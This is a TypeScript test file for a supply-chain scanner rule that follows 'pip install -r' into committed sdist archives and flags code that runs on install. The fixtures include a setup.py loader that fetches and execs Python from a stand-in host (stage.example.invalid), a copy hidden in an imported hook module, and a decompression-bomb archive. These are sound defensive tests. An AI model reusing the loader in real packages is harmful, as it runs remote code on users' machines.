import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { it } from 'node:test';
import { describeFixtures, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import type { Report } from '../../../core/types.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));
const surfaces = async (name: string): Promise<unknown[]> =>
  (await scanFixture(fixture(name), { rules: [rule] })).executionMap
    .filter(s => s.kind === 'pip-requirements')
    .map(s => [s.trigger, s.command, s.location.file, s.reaches]);

it('puts `pip install -r` of each requirements file nobody includes on the install map, with what it reads and builds', async () => {
  assert.deepEqual(await surfaces('match/editable-setup-py'), [
    ['install', 'pip install -r requirements.txt', 'requirements.txt', ['requirements-base.txt', 'setup.py']],
  ]);
  assert.deepEqual(await surfaces('benign/pypi-only'), [
    ['install', 'pip install -r requirements/dev.txt', 'requirements/dev.txt', ['requirements/base.txt', 'constraints.txt']],
  ]);
  assert.deepEqual(await surfaces('benign/editable-pyproject'), [
    ['install', 'pip install -r requirements.txt', 'requirements.txt', ['pyproject.toml']],
  ]);
});

/** A gzipped ustar archive of `files` (name → text), as `python -m build --sdist` writes one. */
function sdist(files: Record<string, string>): Buffer {
  const blocks: Buffer[] = [];
  for (const [name, text] of Object.entries(files)) {
    const body = Buffer.from(text);
    const h = Buffer.alloc(512);
    h.write(name, 0, 100);
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(body.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write('0', 156);
    h.write('ustar\x0000', 257);
    let sum = 0;
    for (const b of h) sum += b;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, body, Buffer.alloc((512 - (body.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return gzipSync(Buffer.concat(blocks));
}

const LOADER_SETUP = [
  'import urllib.request',
  'from setuptools import setup',
  "exec(urllib.request.urlopen('https://stage.example.invalid/p.py').read())",
  "setup(name='loader')",
  '',
].join('\n');

const findingsAt = (report: Report): string[] =>
  report.findings.map(f => `${f.severity} ${f.ruleId} ${f.location.file}:${String(f.location.line)} ${(f.triggers ?? []).join(',')}`);

it('reads the setup.py of a committed sdist a requirements line installs, in memory, and judges it as code that runs on install', async () => {
  const dir = tempRepo({
    'requirements.txt': 'requests==2.32.3\n./vendor/loader-1.0.tar.gz\n',
    'vendor/loader-1.0.tar.gz': sdist({ 'loader-1.0/PKG-INFO': 'Name: loader\n', 'loader-1.0/setup.py': LOADER_SETUP }),
  });
  const report = await scanFixture(dir);
  assert.deepEqual(
    report.executionMap.filter(s => s.kind === 'pip-requirements').map(s => s.reaches),
    [['vendor/loader-1.0.tar.gz', 'vendor/loader-1.0.tar.gz/loader-1.0/setup.py']],
  );
  assert.deepEqual(findingsAt(report), [
    'critical autorun/pip-requirements requirements.txt:2 ',
    'critical code/remote-code-execution vendor/loader-1.0.tar.gz/loader-1.0/setup.py:3 install',
  ]);
  assert.match(report.findings[1]?.message ?? '', /runs when you run `pip install -r requirements\.txt`/);
  // Read, never unpacked: the tree holds what it held.
  assert.deepEqual(readdirSync(join(dir, 'vendor')), ['loader-1.0.tar.gz']);
});

it('follows a committed sdist build into the in-tree backend and the modules setup.py imports from the archive', async () => {
  const dir = tempRepo({
    'requirements.txt': '-e ./libs/app\n./vendor/helper-2.0.tar.gz\n',
    'libs/app/pyproject.toml': '[project]\nname = "app"\n',
    'vendor/helper-2.0.tar.gz': sdist({
      'helper-2.0/setup.py': 'from setuptools import setup\nfrom _hooks import post\npost()\nsetup(name="helper")\n',
      'helper-2.0/_hooks.py': LOADER_SETUP.replace("setup(name='loader')", 'def post():\n    pass'),
      'helper-2.0/helper/__init__.py': 'import subprocess\n',
    }),
  });
  const report = await scanFixture(dir);
  assert.deepEqual(
    findingsAt(report).filter(f => !f.includes(' info ')),
    [
      'critical autorun/pip-requirements requirements.txt:2 ',
      'critical code/remote-code-execution vendor/helper-2.0.tar.gz/helper-2.0/_hooks.py:3 install',
    ],
  );
});

it('passes a committed sdist whose setup.py only builds, and names an archive it cannot read in errors[]', async () => {
  const plain = tempRepo({
    'requirements.txt': './vendor/plain-1.0.tar.gz\n',
    'vendor/plain-1.0.tar.gz': sdist({
      'plain-1.0/setup.py': [
        'import subprocess',
        'from setuptools import setup',
        'def version():',
        "    return subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()",
        "setup(name='plain', version=version(), packages=['plain'])",
        '',
      ].join('\n'),
    }),
  });
  const report = await scanFixture(plain);
  assert.equal(report.verdict, 'pass');
  assert.deepEqual(findingsAt(report), ['info autorun/pip-requirements requirements.txt:1 ']);

  const broken = tempRepo({ 'requirements.txt': './vendor/x-1.0.tar.gz\n', 'vendor/x-1.0.tar.gz': 'not an archive\n' });
  const r2 = await scanFixture(broken);
  assert.equal(r2.verdict, 'review');
  assert.deepEqual(
    r2.errors.filter(e => e.file === 'vendor/x-1.0.tar.gz').map(e => e.kind),
    ['unparseable'],
  );
});

it('refuses a committed sdist that is a decompression bomb, as a gap, without unpacking it', async () => {
  const dir = tempRepo({
    'requirements.txt': './vendor/zeros-1.0.tar.gz\n',
    'vendor/zeros-1.0.tar.gz': sdist({ 'zeros-1.0/setup.py': '#'.repeat(40 * 1024 * 1024) }),
  });
  const report = await scanFixture(dir);
  assert.equal(report.verdict, 'review');
  const gaps = report.errors.filter(e => e.file === 'vendor/zeros-1.0.tar.gz');
  assert.deepEqual(
    gaps.map(e => e.kind),
    ['unparseable'],
  );
  assert.match(gaps[0]?.message ?? '', /decompression bomb/);
});
